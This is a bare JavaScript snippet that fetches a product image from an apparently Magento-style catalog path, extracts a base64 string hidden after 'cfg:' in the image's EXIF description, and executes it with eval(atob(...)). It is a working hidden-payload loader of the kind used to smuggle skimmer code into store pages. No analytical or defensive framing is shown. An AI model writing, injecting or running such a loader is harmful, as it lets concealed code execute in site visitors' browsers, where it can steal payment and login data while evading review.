fetch('/media/catalog/product/banner.jpg').then(function (r) {
  return r.arrayBuffer();
}).then(function (buf) {
  var bytes = new Uint8Array(buf);
  var s = '';
  for (var i = 0; i < bytes.length && i < 65536; i++) {
    s += String.fromCharCode(bytes[i]);
  }
  // The EXIF ImageDescription holds "cfg:" followed by base64.
  var m = /cfg:([A-Za-z0-9+\/=]+)/.exec(s);
  if (m) {
    eval(atob(m[1]));
  }
});
